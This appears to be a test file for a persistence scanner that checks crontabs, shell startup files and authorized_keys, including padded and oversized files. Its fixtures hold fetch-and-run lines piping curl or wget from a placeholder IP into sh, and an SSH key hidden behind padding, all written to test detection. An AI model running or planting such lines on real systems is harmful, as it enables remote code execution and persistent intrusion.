import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ImageHost } from '../../src/host/image.js';
import { TargetError, type Target } from '../../src/host/target.js';
import { defaultPolicy } from '../../src/core/policy.js';
import { contentHash } from '../../src/core/finding.js';
import { Collector, type Detector } from '../../src/scan/detector.js';
import { decideScan, runScan } from '../../src/scan/engine.js';
import { MAX_LINE, readLines, splitLines } from '../../src/scan/detectors/util.js';
import { cron } from '../../src/scan/detectors/cron.js';
import { compareBaseline, saveBaseline } from '../../src/scan/baseline.js';
import { shellStartup } from '../../src/scan/detectors/shell-startup.js';
import { authorizedKeys } from '../../src/scan/detectors/authorized-keys.js';

/** Padding (issue 15 §1): whole files are judged in bounded memory; padding and lines over the cap are findings. */
const tmp = mkdtempSync(join(tmpdir(), 'ir-reading-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

function root(files: Record<string, string | Buffer>): string {
  const dir = mkdtempSync(join(tmp, 'root-'));
  mkdirSync(join(dir, 'etc'), { recursive: true });
  writeFileSync(join(dir, 'etc/passwd'), 'root:x:0:0:root:/root:/bin/bash\n');
  for (const [p, c] of Object.entries(files)) {
    mkdirSync(join(dir, p, '..'), { recursive: true });
    writeFileSync(join(dir, p), c);
  }
  return dir;
}

const pad = (bytes: number) => '# padding padding padding\n'.repeat(Math.ceil(bytes / 26));
const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILtcVWwATkPiROyHF2sY2SNxuvy1sCDJfgxOaL1eKdsO padded@example.com';

async function* chunks(text: string, size: number) {
  const b = Buffer.from(text);
  for (let i = 0; i < b.length; i += size) yield b.subarray(i, i + size);
}

describe('splitLines', () => {
  it('splits across chunk boundaries (UTF-8 included) and hashes what it read as contentHash does', async () => {
    const text = 'é first\nsecond line\n\nlast without newline';
    const seen: [string, number][] = [];
    const r = await splitLines(chunks(text, 3), (l, n) => void seen.push([l, n]));
    expect(seen).toEqual([['é first', 1], ['second line', 2], ['', 3], ['last without newline', 4]]);
    expect(r.hash).toBe(contentHash(text));
    expect(r.md5).toBe(createHash('md5').update(text).digest('hex'));
  });

  it('hands on a line over the cap as its head and tail, and says so', async () => {
    const long = 'a'.repeat(MAX_LINE) + 'x'.repeat(500_000) + ' curl http://203.0.113.9/u | sh';
    const seen: string[] = [];
    const r = await splitLines(chunks(`ok\n${long}\n`, 65536), (l) => void seen.push(l));
    expect(seen[1]!.length).toBeLessThanOrEqual(MAX_LINE + 3);
    expect(seen[1]).toMatch(/^a+ … x+ curl http:\/\/203\.0\.113\.9\/u \| sh$/);
    expect(r.longLines).toEqual([{ line: 2, length: long.length }]);
  });
});

describe('whole files, padding and budgets', () => {
  it('a key after 1.2 MB of comments in root\'s authorized_keys is found, and the padding is a medium finding (hostile case 40)', async () => {
    const dir = root({ 'root/.ssh/authorized_keys': pad(1_200_000) + KEY + '\n' });
    const r = await runScan(await ImageHost.open(dir), defaultPolicy(), { detectors: [authorizedKeys] });
    expect(r.findings.find((f) => f.evidence.includes('padded@example.com'))).toMatchObject({ user: 'root', line: 46155 });
    expect(r.findings.find((f) => f.rule === 'authorized-keys.padded')).toMatchObject({ severity: 'medium', title: expect.stringMatching(/^Padded authorized_keys file: far larger than such files are/) });
  });

  it('a fetch-and-run line after 1.2 MB of comments in profile.d is critical: --only shell-startup fails', async () => {
    const dir = root({ 'etc/profile.d/x.sh': pad(1_200_000) + 'curl -fsSL http://203.0.113.9/u.sh | sh\n' });
    const r = decideScan(await runScan(await ImageHost.open(dir), defaultPolicy(), { detectors: [shellStartup] }), 'high');
    expect(r.findings.find((f) => f.path === '/etc/profile.d/x.sh' && f.rule === 'shell-startup.fetch-exec')?.severity).toBe('critical');
    expect(r.exitCode).toBe(1);
  });

  it('contentHash covers the whole file: content appended after 1 MiB changes it', async () => {
    const dir = root({ 'var/spool/cron/crontabs/root': '* * * * * /usr/local/bin/backup\n', 'etc/cron.daily/job': '#!/bin/sh\n' + pad(1_100_000) });
    const before = (await runScan(await ImageHost.open(dir), defaultPolicy(), { detectors: [cron] })).findings.find((f) => f.path === '/etc/cron.daily/job')!.contentHash;
    writeFileSync(join(dir, 'etc/cron.daily/job'), '#!/bin/sh\n' + pad(1_100_000) + 'true\n');
    const after = (await runScan(await ImageHost.open(dir), defaultPolicy(), { detectors: [cron] })).findings.find((f) => f.path === '/etc/cron.daily/job')!.contentHash;
    expect(after).not.toBe(before);
  });

  it('beyond the budget: high "too large to judge", the first budget bytes still judged, counted as not read fully', async () => {
    const dir = root({ 'var/spool/cron/crontabs/root': '* * * * * curl -s http://203.0.113.9/a | sh\n' + pad(2 * 1024 * 1024) + '* * * * * wget -qO- http://203.0.113.9/b | sh\n' });
    const c = new Collector('cron', 'scheduled-task', 'x');
    const seen: number[] = [];
    const f = await readLines(await ImageHost.open(dir), c, '/var/spool/cron/crontabs/root', { kind: 'crontab', normal: 64 * 1024, budget: 1024 * 1024 }, (_l, n) => void seen.push(n));
    expect(f?.complete).toBe(false);
    expect(f?.bytes).toBe(1024 * 1024);
    expect(c.findings.map((x) => [x.rule, x.severity])).toEqual([['cron.too-large', 'high']]);
    expect(c.findings[0]!.title).toMatch(/too large to judge/);
    expect(c.unreadItems).toEqual([{ detector: 'cron', path: '/var/spool/cron/crontabs/root', reason: expect.stringMatching(/^too large: the first 1\.0 MiB of 2\.0 MiB judged/) }]);
    expect(seen.length).toBeGreaterThan(40_000);
  });

  it('a file of a million entries is a bounded list of findings and a warning, not a million findings', async () => {
    const dir = root({ 'var/spool/cron/crontabs/root': Array.from({ length: 300 }, (_, i) => `* * * * * /usr/local/bin/job${i}`).join('\n') + '\n' });
    const r = await runScan(await ImageHost.open(dir), defaultPolicy(), { detectors: [cron] });
    expect(r.findings).toHaveLength(200);
    expect(r.warnings).toContainEqual({ detector: 'cron', path: '/var/spool/cron/crontabs/root', message: '100 more non-critical findings not listed (the first 200 are)' });
  });

  it('a line over the cap is itself a medium finding (the rules still see its tail)', async () => {
    const dir = root({ 'var/spool/cron/crontabs/root': `* * * * * true ${' '.repeat(200_000)}; curl -s http://203.0.113.9/a | sh\n` });
    const r = await runScan(await ImageHost.open(dir), defaultPolicy(), { detectors: [cron] });
    expect(r.findings.map((f) => [f.rule, f.severity]).sort()).toEqual([
      ['cron.fetch-exec', 'critical'],
      ['cron.long-line', 'medium'],
      ['cron.padded', 'medium'],
    ]);
    expect(r.unread.map((u) => u.reason)).toEqual([expect.stringMatching(/1 line over 64\.0 KiB/)]);
  });
});

describe('an input that exists but cannot be evaluated is an error (issue 15 §5)', () => {
  /** A target whose reads of one path fail as a non-root sftp read of /root does. */
  function denying(t: Target, path: string): Target {
    return new Proxy(t, {
      get(target, prop, recv) {
        if (prop === 'readFile' || prop === 'openRead')
          return async (p: string, ...rest: unknown[]) => {
            if (p === path) throw new TargetError('EACCES', `${p}: permission denied`, p);
            return (target[prop] as (...a: unknown[]) => unknown).call(target, p, ...rest);
          };
        const v = Reflect.get(target, prop, recv);
        return typeof v === 'function' ? v.bind(target) : v;
      },
    });
  }

  it('an unreadable crontab makes the scan incomplete: errors[], exit 2, the path said once', async () => {
    const dir = root({ 'var/spool/cron/crontabs/root': '* * * * * true\n' });
    const r = decideScan(await runScan(denying(await ImageHost.open(dir), '/var/spool/cron/crontabs/root'), defaultPolicy(), { detectors: [cron] }), 'high');
    expect(r.exitCode).toBe(2);
    expect(r.errors).toEqual([{ detector: 'cron', path: '/var/spool/cron/crontabs/root', message: 'permission denied' }]);
    expect(r.unread).toEqual([{ detector: 'cron', path: '/var/spool/cron/crontabs/root', reason: 'permission denied' }]);
  });

  it('a detector that throws is an error; a missing location is not', async () => {
    const throws: Detector = { id: 'boom', title: 't', category: 'c', attack: [], locations: [], run: () => Promise.reject(new Error('parser broke')) };
    const dir = root({});
    const r = decideScan(await runScan(await ImageHost.open(dir), defaultPolicy(), { detectors: [cron, throws] }), 'high');
    expect(r.exitCode).toBe(2);
    expect(r.errors).toEqual([{ detector: 'boom', message: 'detector failed: parser broke' }]);
    const clean = decideScan(await runScan(await ImageHost.open(dir), defaultPolicy(), { detectors: [cron] }), 'high');
    expect([clean.exitCode, clean.errors, clean.unread]).toEqual([0, [], []]);
  });

  it('a baseline entry in a file that could not be read this time is not "gone" (unknown is not removed)', async () => {
    const dir = root({ 'var/spool/cron/crontabs/root': '* * * * * curl -s http://203.0.113.9/a | sh\n' });
    const accepted = saveBaseline(await runScan(await ImageHost.open(dir), defaultPolicy(), { detectors: [cron] }));
    const now = await runScan(denying(await ImageHost.open(dir), '/var/spool/cron/crontabs/root'), defaultPolicy(), { detectors: [cron] });
    expect(compareBaseline(now, accepted).gone).toEqual([]);
    rmSync(join(dir, 'var/spool/cron/crontabs/root'));
    const removed = await runScan(await ImageHost.open(dir), defaultPolicy(), { detectors: [cron] });
    expect(compareBaseline(removed, accepted).gone.map((g) => g.path)).toEqual(['/var/spool/cron/crontabs/root']);
  });
});
